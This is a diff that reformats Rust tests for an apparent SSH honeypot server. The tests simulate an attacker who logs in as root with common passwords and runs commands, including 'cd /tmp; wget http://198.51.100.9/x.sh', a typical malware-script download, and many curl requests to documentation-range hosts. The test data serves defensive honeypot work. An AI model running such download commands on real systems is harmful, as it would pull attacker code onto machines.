@@ -88,7 +88,9 @@ mod tests {
 
     fn server() -> SshServer<CowriePolicy> {
         SshServer::new(
-            CowriePolicy { executed: Vec::new() },
+            CowriePolicy {
+                executed: Vec::new(),
+            },
             SERVER_VERSION_DEFAULT,
             [1; 16],
             b"server-nonce".to_vec(),
@@ -115,23 +117,32 @@ mod tests {
         assert_eq!(log.authenticated_user.as_deref(), Some("root"));
 
         // Both commands executed in order, on the real wire path.
-        assert_eq!(log.exec_log, vec![
-            "uname -a".to_string(),
-            "cd /tmp; wget http://198.51.100.9/x.sh".to_string(),
-        ]);
+        assert_eq!(
+            log.exec_log,
+            vec![
+                "uname -a".to_string(),
+                "cd /tmp; wget http://198.51.100.9/x.sh".to_string(),
+            ]
+        );
         assert_eq!(handler.executed.len(), 2);
 
         // Client saw the milestones in order.
         let ev = &log.client_events;
         assert!(matches!(ev[0], ClientEvent::ServerVersion(ref v) if v.contains("OpenSSH")));
-        assert!(ev.contains(&ClientEvent::AuthFailed { password: "root".into() }));
-        assert!(ev.contains(&ClientEvent::AuthSucceeded { password: "admin".into() }));
+        assert!(ev.contains(&ClientEvent::AuthFailed {
+            password: "root".into()
+        }));
+        assert!(ev.contains(&ClientEvent::AuthSucceeded {
+            password: "admin".into()
+        }));
         let outputs: Vec<_> = ev
             .iter()
             .filter_map(|e| match e {
-                ClientEvent::CommandOutput { index, output, status } => {
-                    Some((*index, output.clone(), *status))
-                }
+                ClientEvent::CommandOutput {
+                    index,
+                    output,
+                    status,
+                } => Some((*index, output.clone(), *status)),
                 _ => None,
             })
             .collect();
@@ -168,9 +179,9 @@ mod tests {
         script.hangup_after_auth = true;
         let (log, _) = run_dialogue(client(script), server()).unwrap();
         assert!(log.exec_log.is_empty(), "must not open a channel");
-        assert!(log
-            .client_events
-            .contains(&ClientEvent::AuthSucceeded { password: "3245gs5662d34".into() }));
+        assert!(log.client_events.contains(&ClientEvent::AuthSucceeded {
+            password: "3245gs5662d34".into()
+        }));
     }
 
     #[test]
@@ -185,8 +196,9 @@ mod tests {
     #[test]
     fn many_commands_over_one_dialogue() {
         // curl_maxred-style: ~100 commands per session (Appendix C).
-        let cmds: Vec<String> =
-            (0..100).map(|i| format!("curl https://203.0.113.{}/ -s -X GET", i + 1)).collect();
+        let cmds: Vec<String> = (0..100)
+            .map(|i| format!("curl https://203.0.113.{}/ -s -X GET", i + 1))
+            .collect();
         let cmd_refs: Vec<&str> = cmds.iter().map(String::as_str).collect();
         let script = ClientScript::new("root", &["qwerty"], &cmd_refs);
         let (log, _) = run_dialogue(client(script), server()).unwrap();
